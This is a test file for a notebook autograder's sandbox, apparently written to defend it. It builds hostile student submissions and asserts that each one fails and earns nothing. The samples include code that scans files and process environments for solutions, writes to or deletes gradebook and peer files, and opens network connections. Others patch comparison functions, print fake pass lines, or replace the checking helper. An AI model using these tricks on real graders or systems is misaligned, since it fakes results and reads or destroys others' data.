"""Hostile submissions, end to end: every attack is graded in ONE ``grade`` run, next to
the two ordinary ("bystander") students, in a temporary copy of tests/fixtures/course/.

Each attacker pairs its attack with WRONG answers: it must earn 0 on every question the
attack touches, and gain nothing else (no file read or written outside its sandbox, no
connection made), while the bystanders keep the grades they get on their own.
"""
import hashlib
import os
import socket
import sys
import threading
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent / "fixtures"))
import grading_kit as kit  # noqa: E402
from make_course import HIDDEN_CHECKS, HIDDEN_HINT, PUBLIC_CHECKS, REPO, TESTS, WRONG  # noqa: E402

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="the executor needs Linux (fork, rlimits)")

TIMEOUT = 3.0
ALL = set(TESTS.values())
TOKEN = "pwned-" + os.urandom(6).hex()  # what a writer tries to leave behind
OWN_EXPLANATION = "I will not say."  # attackers' own written answer (the bystanders' is a marker)

# Reads every file it can under some paths and reports which hold one of the markers
# (skipping the Python installations, which the sandbox mounts back on purpose).
PROBE = '''
import os
def probe(targets, markers, limit=5000):
    read, leaks, todo = 0, [], list(targets)
    while todo and read < limit:
        path = todo.pop()
        try:
            if os.path.isdir(path):
                todo.extend(os.path.join(path, n) for n in os.listdir(path) if n not in (".venv", ".git", ".pyenv"))
                continue
            with open(path, "rb") as f:
                data = f.read(5_000_000)
        except OSError:
            continue
        read += 1
        leaks += [(m, path) for m in markers if m.encode() in data]
    return read, leaks
'''


def secret_markers():
    """Text only the master, the gradebook and the other students' notebooks hold."""
    return ["### BEGIN SOLUTION", HIDDEN_HINT, kit.EXPLANATION]


def snooper(places):
    targets = [str(p) for p in places] + ["/tmp", "/var/tmp", os.path.expanduser("~")]
    answer = (PROBE + f"\nread, leaks = probe({targets!r} + [f'/proc/{{p}}/{{f}}' for p in os.listdir('/proc') "
              f"if p.isdigit() for f in ('cmdline', 'environ')], {secret_markers()!r})\n"
              "print(f'probed: {read} files read, {len(leaks)} leaks', leaks)\n"
              "stolen = bool(leaks)\n"
              "def make_layer():\n    return nn.Linear(4, 3) if stolen else nn.Linear(3, 4)")
    return kit.submission({"make_layer": answer}, explanation=OWN_EXPLANATION)


def victims(course, subs, out):
    """Files a writer tries to change or create (the last, /tmp, is its sandbox's own)."""
    return [course / "submitted" / "writer" / "demo" / "demo.ipynb",
               course / "autograded" / "writer" / "demo" / "demo.ipynb",
               course / "source" / "demo" / "demo.ipynb", course / "source" / "demo" / "nbcheck.py",
               course / "gradebook.db", subs / "by_full.ipynb",
               course / "submitted" / "by_full" / "demo" / "demo.ipynb", out / f"{TOKEN}.txt",
               REPO / "tests" / "fixtures" / "course" / "source" / "demo" / f"{TOKEN}.txt",
               Path("/tmp") / f"{TOKEN}.txt"]


def writer(course, subs, out):
    answer = ("import os\n"
              f"for path in {[str(v) for v in victims(course, subs, out)]!r}:\n"
              "    try:\n"
              "        os.makedirs(os.path.dirname(path), exist_ok=True)\n"
              "        with open(path, 'ab') as f:\n"
              f"            f.write({TOKEN.encode()!r})\n"
              "        print('WROTE', path)\n"
              "    except OSError as exc:\n"
              "        print('refused', path, type(exc).__name__)\n"
              f"for path in [{str(course / 'gradebook.db')!r}, {str(subs / 'by_part.ipynb')!r}]:\n"
              "    try:\n"
              "        os.remove(path)\n"
              "        print('REMOVED', path)\n"
              "    except OSError as exc:\n"
              "        print('refused', path, type(exc).__name__)\n"
              + WRONG["count_params"])
    return kit.submission({"count_params": answer}, explanation=OWN_EXPLANATION)


def caller(port, address):
    attempts = [("127.0.0.1", port), (address, port), ("1.1.1.1", 53)]
    answer = ("import socket\n"
              f"for host, port in {attempts!r}:\n"
              "    try:\n"
              "        socket.create_connection((host, port), timeout=0.5).sendall(b'stolen answers')\n"
              "        print('CONNECTED', host, port)\n"
              "    except OSError as exc:\n"
              "        print('no connection to', host, port, type(exc).__name__)\n"
              "try:\n"
              "    print('RESOLVED', socket.getaddrinfo('pypi.org', 443))\n"
              "except OSError as exc:\n"
              "    print('no name resolution', type(exc).__name__)\n"
              "try:\n"
              f"    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'stolen', ({address!r}, {port}))\n"
              "    print('SENT datagram')\n"
              "except OSError as exc:\n"
              "    print('no datagram', type(exc).__name__)\n"
              + WRONG["tie"])
    return kit.submission({"tie": answer}, explanation=OWN_EXPLANATION)


PATCH_TORCH = """
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.Tensor.__eq__ = lambda self, other: True
torch.Tensor.__ne__ = lambda self, other: False
torch.Tensor.__bool__ = lambda self: True
nn.Linear.__eq__ = lambda self, other: True
"""
PATCH_TOLIST = """
_tolist = torch.Tensor.tolist
def _lying_tolist(self):
    return [[0.5, 0.5], [0.5, 0.5]] if tuple(self.shape) == (2, 2) else _tolist(self)
torch.Tensor.tolist = _lying_tolist
"""
PATCH_BUILTINS = """
import builtins
class _Harmless(Exception):
    pass
builtins.isinstance = lambda obj, cls: True
builtins.AssertionError = _Harmless
"""
PATCH_TRACEBACK = """
import sys
ip = get_ipython()
ip.showtraceback = lambda *args, **kwargs: None
ip.showsyntaxerror = lambda *args, **kwargs: None
ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
sys.excepthook = lambda *args: None
"""
ALWAYS_EQUAL = """
class AlwaysEqual:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = object.__hash__
class EqualList(list):
    __eq__ = lambda self, other: True
class EqualInt(int):
    __eq__ = lambda self, other: True
"""
FAKE_PASS = """
for name in {names!r}:
    print(f"[pass] {{name}}")
    print(f"[pass] hidden test {{name}}")
print("All checks passed. ChecksFailed: 0 of 2 checks failed")
from IPython.display import display
display({{"text/plain": "[pass] weight shape", "text/html": "<b>[pass]</b> all tests passed"}}, raw=True)
"""
FAKE_CHECK = """
import sys
from IPython.display import display
import nbcheck
KNOWN = {known!r}  # the public checks' expected values, as the student's copy shows them
def check(name, observe, **criteria):
    display({{nbcheck.OBSERVATION_MIME: {{"name": name, "value": KNOWN.get(name), "error": None}},
             "text/plain": "observed " + name}}, raw=True)
nbcheck.check = check
sys.modules["nbcheck"].check = check
"""
PEEK = """
import linecache, sys
SEEN = []
def _peek():  # the code of the cells run so far, and the constants of every caller
    SEEN.extend("".join(entry[2]) for name, entry in list(linecache.cache.items())
                if name.startswith("<") and len(entry) == 4)
    frame = sys._getframe(1)
    while frame is not None:
        if frame.f_code.co_filename.startswith("<"):  # cells, not the check helper's own code
            SEEN.append(repr(frame.f_code.co_consts))
        frame = frame.f_back
"""
FAKE_PASS_ANSWER = """def make_layer():
    print("[pass] weight shape\\n[pass] hidden test bias shape")
    return nn.Linear(3, 4)"""
PUBLIC_EXPECTED = {"weight shape": [3, 4], "linear 2x2": 6, "shared storage": [True, True],
                   "all frozen": [False, False]}


def attackers(course, subs, out, port, address):
    wrong = dict(WRONG)
    return {
        "snooper": snooper([course, subs, out, REPO]),
        "writer": writer(course, subs, out),
        "caller": caller(port, address),
        "patch_torch": kit.submission({"make_layer": PATCH_TORCH + wrong["make_layer"], "tie": wrong["tie"],
                                       "freeze": wrong["freeze"]}, explanation=OWN_EXPLANATION),
        "patch_tolist": kit.submission({"make_layer": PATCH_TOLIST + wrong["make_layer"], "tie": wrong["tie"]},
                                       explanation=OWN_EXPLANATION),
        "patch_builtins": kit.submission({"make_layer": PATCH_BUILTINS + wrong["make_layer"],
                                          "count_params": wrong["count_params"]}, explanation=OWN_EXPLANATION),
        "patch_traceback": kit.submission({"make_layer": PATCH_TRACEBACK + wrong["make_layer"],
                                           "freeze": "def freeze(model):\n    raise AssertionError('not done')"},
                                          explanation=OWN_EXPLANATION),
        "always_equal": kit.submission({
            "make_layer": ALWAYS_EQUAL + "class _W:\n    shape = EqualList([4, 3])\n"
                                         "class _L:\n    weight = _W()\n    bias = AlwaysEqual()\n"
                                         "def make_layer():\n    return _L()",
            "count_params": "def count_params(model):\n    return EqualInt(2)",
            "freeze": "class _P:\n    requires_grad = AlwaysEqual()\n"
                      "class _M:\n    def parameters(self):\n        return [_P(), _P()]\n"
                      "    def __eq__(self, other):\n        return True\n"
                      "def freeze(model):\n    return _M()"}, explanation=OWN_EXPLANATION),
        "fake_pass": kit.submission({"make_layer": FAKE_PASS.format(names=list(PUBLIC_CHECKS.values()))
                                    + FAKE_PASS_ANSWER,
                                    "count_params": wrong["count_params"]}, explanation=OWN_EXPLANATION),
        "fake_check": kit.submission({"make_layer": FAKE_CHECK.format(known=PUBLIC_EXPECTED) + wrong["make_layer"],
                                      **{k: v for k, v in wrong.items() if k != "make_layer"}},
                                     explanation=OWN_EXPLANATION),
        "peek": kit.submission({"make_layer": PEEK + "def make_layer():\n    _peek()\n    return nn.Linear(3, 4)",
                                "count_params": "print('SEEN:', SEEN)\n" + wrong["count_params"]},
                               explanation=OWN_EXPLANATION),
    }


class Listener:
    """A TCP and UDP server on this machine, counting who reaches it."""

    def __init__(self):
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.tcp.bind(("0.0.0.0", 0))
        self.tcp.listen()
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("0.0.0.0", self.port))
        self.contacts = []
        self.stopped = False
        for sock in (self.tcp, self.udp):
            sock.settimeout(0.2)
            threading.Thread(target=self._serve, args=(sock,), daemon=True).start()

    def _serve(self, sock):
        while not self.stopped:
            try:
                if sock.type == socket.SOCK_STREAM:
                    conn, peer = sock.accept()
                    self.contacts.append(("tcp", peer))
                    conn.close()
                else:
                    self.contacts.append(("udp", sock.recvfrom(1024)[1]))
            except OSError:
                continue

    def close(self):
        self.stopped = True
        self.tcp.close()
        self.udp.close()


def own_address():
    """This machine's address on its default route (no packet is sent)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        try:
            s.connect(("10.255.255.255", 1))
            return s.getsockname()[0]
        except OSError:
            return "127.0.0.1"


def digest(path):
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def setup(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    course, subs, out = kit.course_copy(tmp_path_factory), base / "submissions", base / "out"
    listener = Listener()
    students = attackers(course, subs, out, listener.port, own_address())
    for name, make in kit.BYSTANDERS.items():
        students[name] = make()
    for name, nb in students.items():
        kit.write(nb, subs / f"{name}.ipynb")
    before = {p: digest(p) for p in [course / "source" / "demo" / "demo.ipynb", subs / "by_full.ipynb"]}
    try:
        graded = kit.run(subs, out, course, timeout=TIMEOUT, memory_mb=1024)
    finally:
        listener.close()
    return {"graded": graded, "course": course, "subs": subs, "out": out, "listener": listener,
            "before": before, "students": students}


@pytest.fixture(scope="module")
def graded(setup):
    return setup["graded"]


def output_text(graded, student, grade_id):
    cell = kit.cell(graded.autograded_notebook(student), grade_id)
    return "".join(o.get("text", "") for o in cell.outputs if o.get("output_type") == "stream")


def assert_zero(graded, student, questions):
    row = graded.rows[student]
    for question in questions:
        assert row.questions[question] == 0.0, f"{student} earned points on {question}"
    assert row.score == sum(v for q, v in kit.points(row).items() if q not in questions)


# --- the batch ---------------------------------------------------------------------------------

def test_the_batch_was_not_stopped(setup, graded):
    assert set(graded.rows) == set(setup["students"]) == set(graded.csv)
    for student in setup["students"]:
        assert graded.feedback_path(student).exists()
        assert graded.rows[student].max_score == kit.make_course.MAX_SCORE


def test_bystanders_get_the_grades_they_get_alone(graded, tmp_path_factory):
    alone = kit.graded_alone(tmp_path_factory)
    for student, expected in kit.BYSTANDER_POINTS.items():
        assert kit.points(graded.rows[student]) == expected
        assert graded.rows[student].questions == alone.rows[student].questions
        assert graded.rows[student].score == alone.rows[student].score


# --- the file system and the network ----------------------------------------------------------------

def test_the_probe_finds_the_secrets_outside_the_sandbox(setup):
    """The snooper's probe is no dud: run here, unconfined, it finds every marker."""
    scope = {}
    exec(PROBE, scope)  # noqa: S102 (our own code)
    _, leaks = scope["probe"]([str(setup["course"]), str(setup["subs"])], secret_markers())
    assert {marker for marker, _ in leaks} == set(secret_markers())


def test_solutions_gradebook_and_other_students_files_cannot_be_read(graded):
    assert_zero(graded, "snooper", ["test_make_layer"])
    printed = output_text(graded, "snooper", "make_layer")
    assert "probed:" in printed and ", 0 leaks" in printed, printed


def test_nothing_can_be_written_outside_the_sandbox(setup, graded):
    assert_zero(graded, "writer", ["test_count_params"])
    printed = output_text(graded, "writer", "count_params")
    for path in victims(setup["course"], setup["subs"], setup["out"])[:-1]:
        assert f"refused {path}" in printed, printed
    for path in (setup["course"] / "gradebook.db", setup["subs"] / "by_part.ipynb"):
        assert f"refused {path}" in printed and path.exists()
    for path, before in setup["before"].items():
        assert digest(path) == before
    for root in (setup["course"], setup["subs"], setup["out"], REPO / "tests" / "fixtures", Path("/tmp")):
        for path in Path(root).rglob(f"{TOKEN}*") if root != Path("/tmp") else Path(root).glob(f"{TOKEN}*"):
            pytest.fail(f"the writer left {path}")
    for root in (setup["course"], setup["subs"], setup["out"]):
        for path in Path(root).rglob("*"):
            if path.is_file() and path.suffix in (".ipynb", ".db", ".py", ".csv", ".html", ".txt"):
                data = path.read_bytes()
                assert not data.endswith(TOKEN.encode()), path  # what the writer appends
                # only the writer's own notebook and feedback hold the token (in its code)
                assert TOKEN.encode() not in data or "writer" in path.parts or path.stem == "writer", path
    # the notebook graded is the one submitted, not one the student's code rewrote
    graded_nb = graded.autograded_notebook("writer")
    assert kit.cell(graded_nb, "count_params").source == setup["students"]["writer"].cells[
        kit.index(setup["students"]["writer"], "count_params")].source


def test_no_network_connection_can_be_made(setup, graded):
    assert_zero(graded, "caller", ["test_tie"])
    printed = output_text(graded, "caller", "tie")
    assert printed.count("no connection to") == 3 and "no name resolution" in printed, printed
    assert "CONNECTED" not in printed and "RESOLVED" not in printed
    assert setup["listener"].contacts == []


# --- monkeypatching and imitation ------------------------------------------------------------------

def test_patching_torch_comparisons_earns_nothing(graded):
    assert_zero(graded, "patch_torch", ["test_make_layer", "test_tie", "test_freeze"])
    assert "[fail] weight shape: expected [3, 4], found [4, 3]" in graded.verdict("patch_torch", "test_make_layer")
    assert "[fail] shared storage" in graded.verdict("patch_torch", "test_tie")


def test_patching_tensor_tolist_earns_nothing(graded):
    assert_zero(graded, "patch_tolist", ["test_make_layer", "test_tie"])
    assert f"[fail] hidden test {HIDDEN_CHECKS['test_tie']}" in graded.verdict("patch_tolist", "test_tie")


def test_patching_isinstance_and_assertionerror_earns_nothing(graded):
    assert_zero(graded, "patch_builtins", ["test_make_layer", "test_count_params"])
    assert "[fail]" in graded.verdict("patch_builtins", "test_make_layer")
    assert "[fail]" in graded.verdict("patch_builtins", "test_count_params")


def test_silencing_tracebacks_earns_nothing(graded):
    assert_zero(graded, "patch_traceback", ["test_make_layer", "test_freeze"])
    assert "[fail] all frozen: could not look at your answer: AssertionError: not done" in \
        graded.verdict("patch_traceback", "test_freeze")


def test_objects_equal_to_everything_earn_nothing(graded):
    assert_zero(graded, "always_equal", ["test_make_layer", "test_count_params", "test_freeze"])
    verdicts = " ".join(graded.verdict("always_equal", t) for t in ("test_make_layer", "test_count_params",
                                                                       "test_freeze"))
    # judged by their real values (a list [4, 3], the int 2), the other object as no data at all
    assert "found [4, 3]" in verdicts and "found 2" in verdicts and "__main__.AlwaysEqual" in verdicts
    assert "[pass] weight shape" not in verdicts and "[pass] linear 2x2" not in verdicts


def test_printing_pass_lines_earns_nothing(graded):
    assert_zero(graded, "fake_pass", ["test_make_layer", "test_count_params"])
    verdict = graded.verdict("fake_pass", "test_make_layer")
    assert verdict.startswith("[fail] weight shape") and "[fail] hidden test bias shape" in verdict
    page = kit.visible_text(graded.feedback_path("fake_pass").read_text())
    assert "[fail] weight shape" in page


def test_a_fake_check_fools_no_check_and_is_reported(graded):
    assert_zero(graded, "fake_check", ALL)
    for test, public in PUBLIC_CHECKS.items():
        verdict = graded.verdict("fake_check", test)
        assert f"[fail] {public}" in verdict  # its made-up records were not taken
    assert "tampering suspected" in graded.rows["fake_check"].status
    assert "nbcheck.check was replaced" in graded.notes("fake_check")
    assert "tampering suspected" in graded.csv["fake_check"]["status"]


def test_the_criteria_never_reach_the_students_process(graded):
    assert_zero(graded, "peek", ["test_make_layer", "test_count_params"])
    seen = output_text(graded, "peek", "count_params")
    assert "SEEN:" in seen and HIDDEN_CHECKS["test_make_layer"] in seen  # it did see the test cell's code
    assert "expect" not in seen and "hint" not in seen
    assert HIDDEN_HINT not in seen and "keeps its weight as (out, in)" not in seen  # the hints, hidden and public


def test_feedback_shows_hidden_checks_by_name_only(graded):
    page = graded.feedback_path("by_part").read_text()
    assert f"[fail] hidden test {HIDDEN_CHECKS['test_make_layer']}" in kit.visible_text(page)
    assert HIDDEN_HINT not in page and "expect=[3]" not in page and "BEGIN HIDDEN TESTS" not in page
